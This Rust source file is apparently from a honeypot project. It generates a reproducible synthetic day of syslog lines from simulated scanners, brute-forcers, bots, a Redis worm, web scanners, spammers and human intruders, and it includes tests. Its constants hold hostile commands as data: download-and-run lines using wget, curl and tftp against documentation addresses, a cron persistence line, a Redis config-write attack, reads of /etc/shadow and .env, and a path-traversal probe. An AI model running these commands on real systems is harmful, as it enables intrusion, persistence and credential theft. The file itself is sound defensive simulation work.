//! A day of evidence: intruders of several kinds on a fleet, as the decoys would have written it.
//!
//! The same seed gives the same lines, byte for byte. Addresses are those that RFC 5737 and RFC 3849 set aside for
//! documentation. Lines come in the order of their times.

use std::collections::VecDeque;

use decnet_model::event::{ClientInfoKind, CloseReason, Event, Field, FingerprintKind, Secret, field};
use decnet_persona::{Rng, Seed};
use decnet_syslog::{LineHead, Severity, format_line};
use time::{Duration, OffsetDateTime};

/// How much of what.
#[derive(Debug, Clone, Copy)]
pub struct Options {
    /// Lines in all.
    pub events: u64,
    /// Source addresses.
    pub attackers: u32,
    /// Deckies that they touch.
    pub deckies: u32,
    /// The same seed gives the same day.
    pub seed: u64,
    /// When the day ends.
    pub end: OffsetDateTime,
}

impl Options {
    /// The usual day: 50,000 lines of 40 attackers on 20 deckies.
    #[must_use]
    pub fn until(end: OffsetDateTime) -> Self {
        Self {
            events: 50_000,
            attackers: 40,
            deckies: 20,
            seed: 1,
            end,
        }
    }
}

/// What an intruder is after.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Knocks everywhere once.
    Scanner,
    /// Tries passwords, fast.
    BruteForcer,
    /// Gets into ssh and runs the same commands.
    Bot,
    /// Takes redis servers over.
    RedisWorm,
    /// Asks web servers for what should not be there.
    WebScanner,
    /// Looks for a mail server that relays.
    Spammer,
    /// A person at a keyboard.
    Human,
}

const KINDS: &[(Kind, u64)] = &[
    (Kind::BruteForcer, 34),
    (Kind::WebScanner, 18),
    (Kind::Bot, 16),
    (Kind::Scanner, 14),
    (Kind::RedisWorm, 7),
    (Kind::Spammer, 6),
    (Kind::Human, 5),
];

struct Decky {
    name: String,
    services: Vec<(&'static str, u16)>,
}

struct Attacker {
    kind: Kind,
    ip: String,
    /// Seeds what its software looks like: two attackers with the same tool share it.
    tool: usize,
    /// Hours of the day at which it is busy, first and last.
    busy: (u64, u64),
}

/// An iterator over the lines of a day, each ending in `\n`.
pub struct Day {
    options: Options,
    rng: Rng,
    deckies: Vec<Decky>,
    attackers: Vec<Attacker>,
    /// Lines of visits that overlap, by time: the earliest first.
    pending: VecDeque<(OffsetDateTime, Vec<u8>)>,
    made: u64,
    given: u64,
    /// When the next visit begins.
    now: OffsetDateTime,
}

const ROLES: &[(&str, &[(&str, u16)])] = &[
    ("web", &[("http", 80), ("ssh", 22), ("ftp", 21)]),
    ("db", &[("mysql", 3306), ("ssh", 22)]),
    ("cache", &[("redis", 6379), ("ssh", 22)]),
    ("mail", &[("smtp", 25), ("ssh", 22)]),
    ("srv", &[("ssh", 22), ("http", 80)]),
    ("files", &[("ftp", 21), ("ssh", 22)]),
];

const USERS: &[&str] = &[
    "root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "pi", "deploy", "ftpuser",
    "www-data",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "qwerty",
    "P@ssw0rd",
    "toor",
    "1qaz2wsx",
    "changeme",
    "letmein",
    "raspberry",
    "ubuntu",
    "test123",
    "admin123",
    "Passw0rd!",
    "000000",
    "abc123",
    "oracle",
    "master",
    "welcome1",
    "server2024",
    "Zxcvbn!@#",
    "пароль",
];
const BOT_SCRIPTS: &[&[&str]] = &[
    &[
        "uname -a",
        "cat /proc/cpuinfo | grep name | wc -l",
        "free -m",
        "cd /tmp && wget http://198.51.100.77/x86 -O .x; chmod +x .x; ./.x",
        "history -c",
    ],
    &[
        "echo -e \"\\x6F\\x6B\"",
        "/bin/busybox MIRAI",
        "cat /bin/echo",
        "cd /dev/shm; tftp -g -r mips 203.0.113.9; sh mips",
    ],
    &[
        "nproc",
        "curl -s http://203.0.113.44/m.sh | bash",
        "crontab -l",
        "(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.44/m.sh | bash') | crontab -",
    ],
];
const HUMAN_COMMANDS: &[&str] = &[
    "whoami",
    "id",
    "ls -la",
    "cat /etc/passwd",
    "w",
    "last | head",
    "ps aux",
    "ss -tlnp",
    "cat ~/.bash_history",
    "find / -name '*.conf' 2>/dev/null | head",
    "cat /var/www/html/config.php",
    "sudo -l",
    "ip a",
    "cat /etc/shadow",
    "mysql -u root -p",
    "cat .env",
    "ping -c 1 10.0.0.1",
    "ssh db-02",
    "exit",
];
const WEB_PATHS: &[&str] = &[
    "/",
    "/robots.txt",
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/admin/",
    "/phpmyadmin/index.php",
    "/cgi-bin/luci",
    "/actuator/health",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/manager/html",
    "/boaform/admin/formLogin",
    "/solr/admin/info/system",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
];
const SSH_CLIENTS: &[&str] = &[
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-Go",
    "SSH-2.0-OpenSSH_9.6",
    "SSH-2.0-paramiko_3.4.0",
    "SSH-2.0-PUTTY",
    "SSH-2.0-libssh_0.9.6",
];

impl Day {
    /// The day that `options` describe. At least one attacker and one decky take part.
    #[must_use]
    pub fn new(options: Options) -> Self {
        let mut key = [0; 16];
        for (slot, byte) in key.iter_mut().zip(options.seed.to_be_bytes()) {
            *slot = byte;
        }
        let mut rng = Seed::from_bytes(key).rng("demo day");
        let deckies = (0..options.deckies.max(1))
            .map(|n| {
                let (role, services) = ROLES
                    .get(usize::try_from(n).unwrap_or(0) % ROLES.len())
                    .copied()
                    .unwrap_or(("srv", &[("ssh", 22)]));
                Decky {
                    name: format!("{role}-{:02}", n / 6 + 1),
                    services: services.to_vec(),
                }
            })
            .collect();
        let attackers = (0..options.attackers.max(1))
            .map(|n| attacker(&mut rng, n))
            .collect();
        Self {
            now: options.end - Duration::days(1),
            options,
            rng,
            deckies,
            attackers,
            pending: VecDeque::new(),
            made: 0,
            given: 0,
        }
    }

    /// Make one visit: everything that one attacker does to one service in a row.
    fn visit(&mut self) {
        let hour = u64::from(self.now.hour());
        // An attacker out of its hours gives its turn to another, a few times.
        let mut index = self.rng.index(self.attackers.len());
        for _ in 0..4 {
            if self
                .attackers
                .get(index)
                .is_some_and(|a| (a.busy.0..=a.busy.1).contains(&hour))
            {
                break;
            }
            index = self.rng.index(self.attackers.len());
        }
        let decky = self.rng.index(self.deckies.len());
        let (Some(attacker), Some(decky)) = (self.attackers.get(index), self.deckies.get(decky)) else {
            return;
        };
        let wanted: &[&str] = match attacker.kind {
            Kind::RedisWorm => &["redis"],
            Kind::WebScanner => &["http"],
            Kind::Spammer => &["smtp"],
            Kind::Bot | Kind::Human => &["ssh"],
            Kind::BruteForcer => &["ssh", "ftp", "mysql"],
            Kind::Scanner => &[],
        };
        let fitting: Vec<_> = decky
            .services
            .iter()
            .filter(|(slug, _)| wanted.is_empty() || wanted.contains(slug))
            .collect();
        let Some(&&(service, port)) = self.rng.pick(&fitting) else {
            return;
        };
        let mut visit = Visit {
            at: self.now,
            decky: &decky.name,
            service,
            port,
            attacker,
            session: self.rng.hex(16),
            src_port: self.rng.range(1024, 65_535),
            lines: Vec::new(),
        };
        visit.act(&mut self.rng);
        for line in visit.lines {
            // A visit that would outlast the day is still going on when the day ends.
            if line.0 > self.options.end {
                break;
            }
            // Nearly sorted: a visit's lines go behind what began before it.
            let at = self.pending.partition_point(|(time, _)| *time <= line.0);
            self.pending.insert(at, line);
            self.made += 1;
        }
    }
}

impl Iterator for Day {
    type Item = Vec<u8>;

    fn next(&mut self) -> Option<Vec<u8>> {
        if self.given == self.options.events {
            return None;
        }
        // A line may go out once no visit that is still to come can lie before it.
        while self.pending.front().is_none_or(|(at, _)| *at > self.now) {
            let left = i64::try_from(self.options.events.saturating_sub(self.made)).unwrap_or(i64::MAX);
            if left == 0 {
                self.now = self.options.end;
                break;
            }
            let before = self.made;
            self.visit();
            // The visits that are left are spread over the time that is left.
            let a_visit = i64::try_from(self.made - before).unwrap_or(1).max(8);
            let step =
                (self.options.end - self.now) / 1_i32.max(i32::try_from(left / a_visit).unwrap_or(i32::MAX));
            let permille = i32::try_from(self.rng.range(200, 1800)).unwrap_or(1000);
            self.now += step * permille / 1000;
            self.now = self.now.min(self.options.end - Duration::seconds(1));
        }
        self.given += 1;
        self.pending.pop_front().map(|(_, line)| line)
    }
}

fn attacker(rng: &mut Rng, n: u32) -> Attacker {
    let total: u64 = KINDS.iter().map(|(_, weight)| weight).sum();
    // The first ones are one of each kind, so that a small day has them all.
    let kind = match KINDS.get(usize::try_from(n).unwrap_or(usize::MAX)) {
        Some((kind, _)) => *kind,
        None => {
            let mut at = rng.below(total);
            let mut chosen = Kind::Scanner;
            for (kind, weight) in KINDS {
                if at < *weight {
                    chosen = *kind;
                    break;
                }
                at -= weight;
            }
            chosen
        }
    };
    let host = n % 250 + 2;
    let ip = match (n / 250, n % 11) {
        (block, 7) => format!("2001:db8:{block:x}:{:x}::{host:x}", rng.below(0xffff)),
        (block, which) => match (block + which) % 3 {
            0 => format!("192.0.2.{host}"),
            1 => format!("198.51.100.{host}"),
            _ => format!("203.0.113.{host}"),
        },
    };
    let first = rng.below(20);
    Attacker {
        kind,
        ip,
        tool: rng.index(6),
        busy: (first, first + rng.range(3, 12)),
    }
}

struct Visit<'a> {
    at: OffsetDateTime,
    decky: &'a str,
    service: &'static str,
    port: u16,
    attacker: &'a Attacker,
    session: String,
    src_port: u64,
    lines: Vec<(OffsetDateTime, Vec<u8>)>,
}

impl Visit<'_> {
    fn act(&mut self, rng: &mut Rng) {
        let begin = self.at;
        self.say(&Event::Connect);
        self.client(rng);
        let reason = match self.attacker.kind {
            Kind::Scanner => CloseReason::Peer,
            Kind::BruteForcer => self.brute_force(rng),
            Kind::Bot => self.bot(rng),
            Kind::RedisWorm => self.redis(),
            Kind::WebScanner => self.web(rng),
            Kind::Spammer => self.mail(rng),
            Kind::Human => self.human(rng),
        };
        self.wait(rng, 20, 400);
        let duration = (self.at - begin).whole_milliseconds();
        let (bytes_in, bytes_out) = (rng.range(40, 4000), rng.range(100, 20_000));
        self.say(&Event::Disconnect {
            bytes_in,
            bytes_out,
            duration_ms: u64::try_from(duration).unwrap_or(0),
            reason,
        });
    }

    /// What the client's software shows of itself.
    fn client(&mut self, rng: &mut Rng) {
        if self.service != "ssh" {
            return;
        }
        let tool = self.attacker.tool;
        let version = SSH_CLIENTS.get(tool).copied().unwrap_or("SSH-2.0-Go");
        self.wait(rng, 5, 60);
        self.say(&Event::ClientInfo {
            kind: ClientInfoKind::SshVersion,
            value: version.as_bytes(),
        });
        let hash = format!(
            "{:032x}",
            0x9e37_79b9_7f4a_7c15_f39c_c060_5ced_c835_u128
                .wrapping_mul(u128::try_from(tool).unwrap_or(0) * 7919 + 104_729)
        );
        self.say(&Event::Fingerprint {
            kind: FingerprintKind::Hassh,
            hash: &hash,
            raw: "curve25519-sha256;aes128-ctr;hmac-sha2-256;none",
        });
    }

    fn brute_force(&mut self, rng: &mut Rng) -> CloseReason {
        for _ in 0..rng.range(3, 12) {
            self.wait(rng, 80, 900);
            let (user, password) = (rng.word(USERS).to_owned(), rng.word(PASSWORDS).to_owned());
            let mechanism = match self.service {
                "ftp" => "PASS",
                _ => "password",
            };
            if self.service == "mysql" {
                let text = format!("$mysqlna${}*{}", rng.hex(40), rng.hex(40));
                let secret = Secret::Crackable {
                    kind: "mysql_native_password",
                    text,
                };
                self.say(&Event::AuthAttempt {
                    principal: user.as_bytes(),
                    secret,
                    mechanism: "mysql_native_password",
                    accepted: false,
                });
                return CloseReason::Server;
            }
            let secret = Secret::Plaintext(password.as_bytes());
            self.say(&Event::AuthAttempt {
                principal: user.as_bytes(),
                secret,
                mechanism,
                accepted: false,
            });
        }
        CloseReason::Peer
    }

    fn login(&mut self, rng: &mut Rng) {
        self.wait(rng, 100, 1500);
        let (user, password) = (
            rng.word(&["root", "admin", "ubuntu"]).to_owned(),
            rng.word(PASSWORDS).to_owned(),
        );
        let secret = Secret::Plaintext(password.as_bytes());
        self.say(&Event::AuthAttempt {
            principal: user.as_bytes(),
            secret,
            mechanism: "password",
            accepted: true,
        });
        let sid = self.session.clone();
        self.say(&Event::SessionStarted {
            sid: &sid,
            user: user.as_bytes(),
        });
    }

    fn command(&mut self, line: &str) {
        self.say(&Event::Command {
            line: line.as_bytes(),
            detail: &[("user", b"root"), ("cwd", b"/root")],
        });
    }

    fn bot(&mut self, rng: &mut Rng) -> CloseReason {
        self.login(rng);
        let script = BOT_SCRIPTS
            .get(self.attacker.tool % BOT_SCRIPTS.len())
            .copied()
            .unwrap_or(&[]);
        for line in script {
            self.wait(rng, 40, 250);
            self.command(line);
            if let Some(url) = line.split([' ', ';']).find(|w| w.starts_with("http://")) {
                self.say(&Event::FetchAttempt {
                    url: url.as_bytes(),
                    via: line
                        .split([' ', ';'])
                        .find(|w| ["wget", "curl", "tftp"].contains(w))
                        .unwrap_or("curl"),
                });
            }
        }
        self.end_session();
        CloseReason::Peer
    }

    fn human(&mut self, rng: &mut Rng) -> CloseReason {
        self.login(rng);
        for _ in 0..rng.range(6, 30) {
            self.wait(rng, 1_500, 25_000);
            let line = rng.word(HUMAN_COMMANDS).to_owned();
            self.command(&line);
        }
        self.end_session();
        CloseReason::Peer
    }

    fn end_session(&mut self) {
        let sid = self.session.clone();
        self.say(&Event::SessionEnded {
            sid: &sid,
            duration_ms: 12_000,
        });
    }

    fn redis(&mut self) -> CloseReason {
        let steps: &[&str] = &[
            "INFO",
            "CONFIG SET dir /var/spool/cron/",
            "CONFIG SET dbfilename root",
            "SET x \"\\n\\n*/2 * * * * curl http://203.0.113.201/r.sh|sh\\n\\n\"",
            "SAVE",
        ];
        for line in steps {
            self.at += Duration::milliseconds(30);
            self.say(&Event::Command {
                line: line.as_bytes(),
                detail: &[],
            });
        }
        self.say(&Event::Exploit {
            name: "redis-config-write",
            bytes: b"/var/spool/cron/root",
        });
        CloseReason::Peer
    }

    fn web(&mut self, rng: &mut Rng) -> CloseReason {
        let agent = AGENTS.get(self.attacker.tool).copied().unwrap_or("curl/8.5.0");
        for _ in 0..rng.range(2, 14) {
            self.wait(rng, 15, 300);
            let path = rng.word(WEB_PATHS).to_owned();
            let status = if path == "/" || path == "/robots.txt" {
                200
            } else {
                404
            };
            self.say(&Event::Request {
                method: b"GET",
                target: path.as_bytes(),
                status,
                headers: &[(b"User-Agent", agent.as_bytes()), (b"Accept", b"*/*")],
                body: b"",
            });
            if path.contains("%2e") {
                self.say(&Event::Exploit {
                    name: "CVE-2021-41773",
                    bytes: path.as_bytes(),
                });
            }
        }
        CloseReason::Peer
    }

    fn mail(&mut self, rng: &mut Rng) -> CloseReason {
        let ehlo = format!("mail{}.example.net", rng.below(90));
        self.say(&Event::ClientInfo {
            kind: ClientInfoKind::EhloName,
            value: ehlo.as_bytes(),
        });
        for _ in 0..rng.range(1, 4) {
            self.wait(rng, 60, 400);
            let (user, password) = (rng.word(USERS).to_owned(), rng.word(PASSWORDS).to_owned());
            self.say(&Event::AuthAttempt {
                principal: user.as_bytes(),
                secret: Secret::Plaintext(password.as_bytes()),
                mechanism: "AUTH LOGIN",
                accepted: false,
            });
        }
        self.say(&Event::ForwardRefused {
            via: "relay",
            target: b"victim@example.org",
        });
        CloseReason::Server
    }

    fn wait(&mut self, rng: &mut Rng, low_ms: u64, high_ms: u64) {
        self.at += Duration::milliseconds(i64::try_from(rng.range(low_ms, high_ms)).unwrap_or(0));
    }

    fn say(&mut self, event: &Event<'_>) {
        let (src_port, dst_port) = (self.src_port.to_string(), self.port.to_string());
        let mut fields: Vec<Field<'_>> = vec![
            (field::SRC.into(), self.attacker.ip.as_str().into()),
            (field::SRC_PORT.into(), src_port.into()),
            (field::DST_PORT.into(), dst_port.into()),
            (field::SESSION.into(), self.session.as_str().into()),
        ];
        fields.extend(event.fields());
        let head = LineHead {
            severity: Severity::Info,
            timestamp: self.at,
            hostname: self.decky,
            app_name: self.service,
            msgid: event.kind().as_str(),
        };
        let mut line = Vec::with_capacity(256);
        format_line(&head, fields, "", &mut line);
        self.lines.push((self.at, line));
        // Two things never happen in the same microsecond.
        self.at += Duration::microseconds(137);
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use decnet_syslog::Message;
    use time::macros::datetime;

    use super::*;

    fn options() -> Options {
        Options {
            events: 5_000,
            ..Options::until(datetime!(2026-01-02 12:00 UTC))
        }
    }

    #[test]
    fn the_same_seed_gives_the_same_day_and_another_seed_another() {
        let lines = |seed| Day::new(Options { seed, ..options() }).collect::<Vec<_>>();
        assert_eq!(lines(1), lines(1));
        assert_ne!(lines(1), lines(2));
    }

    #[test]
    fn a_day_has_what_was_asked_for_in_the_order_of_time() {
        let day: Vec<_> = Day::new(options()).collect();
        assert_eq!(day.len(), 5_000);
        let messages: Vec<_> = day.iter().map(|line| Message::parse(line).unwrap()).collect();
        let times: Vec<_> = messages.iter().map(|m| m.timestamp.unwrap()).collect();
        assert!(times.is_sorted(), "lines are in the order of their times");
        let (first, last) = (times.first().unwrap(), times.last().unwrap());
        assert!(
            *last - *first > Duration::hours(20),
            "it is a whole day: {first} to {last}"
        );
        assert!(*last <= options().end, "nothing happens after its end: {last}");
        let deckies: BTreeSet<_> = messages.iter().filter_map(|m| m.hostname.clone()).collect();
        assert_eq!(deckies.len(), 20);
        let kinds: BTreeSet<_> = messages.iter().filter_map(|m| m.msgid.clone()).collect();
        for kind in [
            "connect",
            "auth_attempt",
            "command",
            "request",
            "exploit_attempt",
            "fetch_attempt",
            "session_started",
        ] {
            assert!(kinds.contains(kind), "{kind} happens");
        }
    }
}
